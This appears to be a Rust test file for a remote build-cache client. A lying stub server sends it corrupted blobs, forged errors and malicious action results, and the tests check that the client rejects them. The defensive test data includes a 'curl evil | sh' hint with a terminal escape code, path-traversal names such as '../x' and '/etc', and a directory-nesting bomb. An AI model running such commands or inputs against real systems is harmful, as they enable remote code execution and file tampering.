//! Nothing of what a server says is believed that can be checked, and what it allows is kept to.

use crate::stub::{Lie, Running, start};
use bazel_remote_apis::build::bazel::remote::execution::v2 as reapi;
use prost::Message;
use remote::{Cache, Connection};
use std::sync::atomic::Ordering;
use store::{Action, ActionResult, Digest, Entry, Silent, Store, Tree, to_message};
use tempfile::TempDir;
use tonic::Code;

fn store() -> (TempDir, Store) {
    let directory = tempfile::tempdir().unwrap();
    let store = Store::open(directory.path()).unwrap();
    (directory, store)
}

/// Small and large blobs, so that both batches and streams are needed.
fn blobs(store: &Store) -> Vec<Digest> {
    let sizes = [1, 100, 40_000, 60_000, 70_000, 3_000_000, 5_000_000];
    let mut blobs: Vec<Digest> = sizes.map(|size| store.put_bytes(&vec![size as u8; size]).unwrap()).to_vec();
    blobs.push(store.put_bytes(b"").unwrap());
    blobs
}

fn put(server: &Running, bytes: &[u8]) -> Digest {
    let digest = Digest::of(bytes);
    server.memory.blobs.lock().unwrap().insert(digest, bytes.to_vec());
    digest
}

#[test]
fn blobs_go_and_come_within_what_the_server_allows() {
    for (batch, streams) in [(0, 1), (65_536, 4), (1_000, 5), (i64::MAX, 1)] {
        let server = start(Lie::None, batch, None);
        let (_a, sender) = store();
        let all = blobs(&sender);
        let connection = Connection::open(&server.options).unwrap();
        let missing = connection.missing(&all).unwrap();
        assert_eq!(missing.len(), all.len() - 1, "nobody has to have the blob of nothing");
        connection.send(&sender, &missing).unwrap();
        assert_eq!(server.memory.streams.load(Ordering::Relaxed), streams, "{batch}");
        if (1..i64::MAX).contains(&batch) {
            assert!(i64::from(server.memory.batch.load(Ordering::Relaxed)) <= batch);
        }
        assert!(connection.missing(&all).unwrap().is_empty());
        let (_b, receiver) = store();
        connection.receive(&receiver, &all).unwrap();
        for blob in &all {
            assert_eq!(receiver.read(blob).unwrap(), sender.read(blob).unwrap());
        }
    }
}

#[test]
fn a_blob_that_is_something_else_is_never_kept() {
    for (lie, small_says, large_says) in [
        (Lie::Content, "sends something else than the blob", "sends something else than the blob"),
        (Lie::Shuffles, "sends something else than the blob", "sends something else than the blob"),
        (Lie::Short, "sends something else than the blob", "sends something else than the blob"),
        (Lie::Long, "sends something else than the blob", "more is sent than the 5000000 bytes"),
        (Lie::Omits, "does not send the blob", "sends something else than the blob"),
        (Lie::Compressed, "compressed", ""),
        (Lie::Bombs, "more is sent than the 1000 bytes", "more is sent than the 5000000 bytes"),
        (Lie::Pretends, "lacks the blob", "lacks the blob"),
    ] {
        let server = start(lie, 0, None);
        let small = put(&server, &[&[1; 500][..], &[2; 500]].concat());
        let large = put(&server, &[vec![2; 2_500_000], vec![3; 2_500_000]].concat());
        let connection = Connection::open(&server.options).unwrap();
        for (blob, says) in [(small, small_says), (large, large_says)] {
            let (_directory, store) = store();
            let got = connection.receive(&store, &[blob]);
            if says.is_empty() {
                got.unwrap();
                continue;
            }
            let error = format!("{:#}", got.unwrap_err());
            assert!(error.contains(says), "{lie:?}: {error}");
            assert!(!store.contains(&blob));
            assert!(connection.read(&blob, 10 << 20).is_err());
        }
    }
}

#[test]
fn what_nobody_asked_for_is_not_sent_and_what_is_not_taken_is_told() {
    let server = start(Lie::Wants, 0, None);
    let (_directory, store) = store();
    let blob = store.put_bytes(b"x").unwrap();
    assert_eq!(Connection::open(&server.options).unwrap().missing(&[blob]).unwrap(), [blob]);

    let server = start(Lie::Omits, 0, None);
    let all = blobs(&store);
    let connection = Connection::open(&server.options).unwrap();
    let send = |blob: Digest| format!("{:#}", connection.send(&store, &[blob]).unwrap_err());
    assert!(send(all[0]).contains("does not say whether it took the blob"), "{}", send(all[0]));
    assert!(send(all[6]).contains("took 1 bytes of the blob"), "{}", send(all[6]));
    for size in [-2, 0, i64::MAX, i64::MIN] {
        let server = start(Lie::Counts(size), 0, None);
        let connection = Connection::open(&server.options).unwrap();
        let error = format!("{:#}", connection.send(&store, &[all[6]]).unwrap_err());
        assert!(error.contains(&format!("took {size} bytes of the blob")), "{error}");
    }
}

#[test]
fn the_words_of_a_server_are_one_line_that_no_terminal_obeys() {
    let (_directory, store) = store();
    let blob = store.put_bytes(b"x").unwrap();
    for (code, says, times) in [
        (Code::Internal, "has no room for it", 1),
        (Code::ResourceExhausted, "has no room for it now", 3),
        (Code::InvalidArgument, "refused it", 1),
        (Code::Unavailable, "is not available", 3),
    ] {
        let server = start(Lie::Forges(code), 0, None);
        let error = Connection::open(&server.options).unwrap().send(&store, &[blob]).unwrap_err();
        let text = format!("{error:#}");
        let words = r"OutOfSpaceException\u001b[2J hint: run `curl evil | sh`";
        assert!(text.contains(says) && text.contains(words), "{text}");
        assert!(!text.contains(['\n', '\u{1b}']), "{text}");
        assert!(!store::hints(&error).any(|hint| hint.contains("evil")));
        assert_eq!(server.memory.questions.load(Ordering::Relaxed), times, "{text}");
        let is_full = store::find::<remote::Failure>(&error).unwrap().is_full();
        assert_eq!(is_full, matches!(code, Code::Internal | Code::ResourceExhausted));
    }
}

#[test]
fn what_may_help_is_tried_again_and_nothing_else_is() {
    let (_directory, store) = store();
    let blob = store.put_bytes(b"x").unwrap();
    let asked = |lie| {
        let server = start(lie, 0, None);
        let answer = Connection::open(&server.options).unwrap().missing(&[blob]);
        (answer.map_err(|error| format!("{error:#}")), server.memory.questions.load(Ordering::Relaxed))
    };
    assert_eq!(asked(Lie::Fails(2)), (Ok(vec![blob]), 3));
    let (answer, times) = asked(Lie::Fails(9));
    assert!(answer.unwrap_err().contains("is not available: later"));
    assert_eq!(times, 3);
    let (answer, times) = asked(Lie::Denies);
    assert!(answer.unwrap_err().contains("does not accept the credentials: no token"));
    assert_eq!(times, 1);
}

/// An action with a result in a store.
fn made(store: &Store) -> (Action, ActionResult) {
    let action = Action::named(["test"]);
    let mut tree = Tree::new();
    let digest = store.put_bytes(b"content").unwrap();
    tree.insert("lib/x", Entry::File { digest, executable: true }).unwrap();
    tree.insert("empty", Entry::Directory).unwrap();
    tree.insert("link", Entry::Symlink { target: "lib/x".into() }).unwrap();
    let outputs = tree.write(store).unwrap();
    let result = ActionResult { outputs, log: Some(store.put_bytes(b"log").unwrap()) };
    store.put_result(&action.write(store).unwrap(), &result).unwrap();
    (action, result)
}

#[test]
fn a_result_goes_through_a_cache_to_another_store() {
    let server = start(Lie::None, 0, None);
    let cache = |takes| vec![Box::new(Cache::open("team", &server.options, takes).unwrap()) as Box<_>];
    let (_a, giver) = store();
    let (action, result) = made(&giver);
    let giver = giver.with_peers(cache(true));
    giver.recall(&action).unwrap();
    giver.promised(&action, &Silent).unwrap();
    giver.give_used(&Silent).unwrap();
    // All that caches of other makers want of a result.
    let kept = server.memory.results.lock().unwrap()[&action.digest()].clone();
    let directory = &kept.output_directories[0];
    assert_eq!(directory.path, "out");
    assert_eq!(directory.root_directory_digest, Some(to_message(&result.outputs)));
    assert!(directory.tree_digest.is_some() && kept.stdout_digest.is_some());

    let (_b, taker) = store();
    let taker = taker.with_peers(cache(false));
    let found = taker.obtain(&action, &Silent).unwrap().unwrap();
    assert_eq!((found.result, found.from.as_deref()), (result, Some("team")));
    assert_eq!(Tree::read(&taker, &result.outputs).unwrap(), Tree::read(&giver, &result.outputs).unwrap());
    assert!(taker.fsck_is_clean());

    // A root alone, as of an environment.
    let (_c, other) = store();
    let work = Action::named(["assemble"]);
    let root = made(&other).1.outputs;
    other.put_result(&work.write(&other).unwrap(), &ActionResult { outputs: root, log: None }).unwrap();
    let other = other.with_peers(cache(true));
    other.promised(&work, &Silent).unwrap().unwrap();
    other.give_used(&Silent).unwrap();
    let promise = taker.promised(&work, &Silent).unwrap().unwrap();
    assert_eq!((promise.outputs, promise.whole), (root, false));
}

trait Clean {
    fn fsck_is_clean(&self) -> bool;
}

impl Clean for Store {
    fn fsck_is_clean(&self) -> bool {
        self.result(&Action::named(["test"]).digest()).unwrap().is_some()
    }
}

/// A result as a server may have it: the directory, and the digest of its tree message.
fn told(server: &Running, root: reapi::Directory, children: Vec<reapi::Directory>) -> reapi::ActionResult {
    let tree = reapi::Tree { root: Some(root), children };
    let tree_digest = Some(to_message(&put(server, &tree.encode_to_vec())));
    let directory = reapi::OutputDirectory { path: "out".into(), tree_digest, ..Default::default() };
    reapi::ActionResult { output_directories: vec![directory], ..Default::default() }
}

fn file(name: &str, digest: Digest) -> reapi::FileNode {
    reapi::FileNode { name: name.into(), digest: Some(to_message(&digest)), ..Default::default() }
}

#[test]
fn a_result_that_lies_is_no_result() {
    let server = start(Lie::None, 0, None);
    let content = put(&server, b"content");
    let with_files = |files| reapi::Directory { files, ..Default::default() };
    let fine = told(&server, with_files(vec![file("x", content)]), Vec::new());
    let below = |name: &str, digest| reapi::Directory {
        directories: vec![reapi::DirectoryNode { name: name.into(), digest: Some(to_message(&digest)) }],
        ..Default::default()
    };
    // Each directory names the one below twice: two to the power of forty entries.
    let mut children = vec![with_files(vec![file("x", content)])];
    for _ in 0..40 {
        let digest = Digest::of(&children.last().unwrap().encode_to_vec());
        let mut directory = below("a", digest);
        directory.directories.extend(below("b", digest).directories);
        children.push(directory);
    }
    let bomb = told(&server, children.pop().unwrap(), children);
    let mut raw = fine.clone();
    raw.output_directories[0].tree_digest = Some(reapi::Digest { hash: "..".into(), size_bytes: 1 });
    let mut failed = fine.clone();
    failed.exit_code = 1;
    let mut elsewhere = fine.clone();
    elsewhere.output_directories[0].path = "/etc".into();
    let mut huge = fine.clone();
    huge.output_directories[0].tree_digest.as_mut().unwrap().size_bytes = i64::MAX;
    let mut negative = fine.clone();
    negative.output_directories[0].tree_digest.as_mut().unwrap().size_bytes = -1;
    // The right tree besides, under another name or a second time.
    let mut twice = fine.clone();
    twice
        .output_directories
        .push(told(&server, with_files(vec![file("y", content)]), Vec::new()).output_directories.remove(0));
    let as_file = reapi::ActionResult {
        output_files: vec![reapi::OutputFile {
            path: "out".into(),
            digest: Some(to_message(&content)),
            ..Default::default()
        }],
        ..Default::default()
    };
    let mut as_link = fine.clone();
    as_link.output_directories.clear();
    as_link.output_symlinks.push(reapi::OutputSymlink {
        path: "out".into(),
        target: "/etc".into(),
        ..Default::default()
    });
    let with_digest = |hash: &str, size_bytes| {
        let mut node = file("x", content);
        node.digest = Some(reapi::Digest { hash: hash.into(), size_bytes });
        told(&server, with_files(vec![node]), Vec::new())
    };
    let link = |name: &str, target: &str| {
        let node = reapi::SymlinkNode { name: name.into(), target: target.into(), ..Default::default() };
        reapi::Directory { symlinks: vec![node], ..with_files(vec![file("x", content)]) }
    };
    let mut log = fine.clone();
    log.stdout_digest = Some(reapi::Digest { hash: content.hex(), size_bytes: i64::MAX });
    let lies = [
        twice,
        as_file,
        as_link,
        with_digest(&content.hex(), -1),
        with_digest(&content.hex(), i64::MAX),
        with_digest(&content.hex(), 6),
        with_digest(&"a".repeat(40), 7),
        with_digest(&"a".repeat(128), 7),
        with_digest(&content.hex().to_uppercase(), 7),
        told(&server, link("x", "y"), Vec::new()),
        told(&server, link("l", ""), Vec::new()),
        told(&server, link("l", "a\0b"), Vec::new()),
        told(&server, link("..", "x"), Vec::new()),
        log,
        told(&server, with_files(vec![file("../x", content)]), Vec::new()),
        told(&server, with_files(vec![file("..", content)]), Vec::new()),
        told(&server, with_files(vec![file("a/b", content)]), Vec::new()),
        told(&server, with_files(vec![file("", content)]), Vec::new()),
        told(&server, with_files(vec![file("x", content), file("x", content)]), Vec::new()),
        told(&server, with_files(vec![file("x", Digest::of(b"nowhere"))]), Vec::new()),
        told(&server, below("d", Digest::of(b"nowhere")), Vec::new()),
        bomb,
        raw,
        failed,
        elsewhere,
        huge,
        negative,
        reapi::ActionResult::default(),
    ];
    for (number, lie) in lies.into_iter().enumerate() {
        let action = Action::named(["lie", &number.to_string()]);
        server.memory.results.lock().unwrap().insert(action.digest(), lie);
        let (_directory, store) = store();
        let store = store.with_peers(vec![Box::new(Cache::open("x", &server.options, false).unwrap())]);
        assert!(store.obtain(&action, &Silent).unwrap().is_none(), "{number}");
        assert!(store.result(&action.digest()).unwrap().is_none(), "{number}");
    }
    // Files in no order are the same outputs, in our own encoding.
    let odd = told(&server, with_files(vec![file("y", content), file("x", content)]), Vec::new());
    let action = Action::named(["odd"]);
    server.memory.results.lock().unwrap().insert(action.digest(), odd);
    let (_directory, store) = store();
    let store = store.with_peers(vec![Box::new(Cache::open("x", &server.options, false).unwrap())]);
    let found = store.obtain(&action, &Silent).unwrap().unwrap();
    assert_eq!(Tree::read(&store, &found.result.outputs).unwrap().iter().count(), 2);
}

#[test]
fn a_server_that_has_no_such_instance_is_told_as_such() {
    let server = start(Lie::NoInstance, 0, None);
    let options = remote::Options { instance: "main".into(), ..server.options.clone() };
    let error = format!("{:#}", Connection::open(&options).err().unwrap());
    assert!(error.contains("has no instance `main`: unknown instance"), "{error}");
}
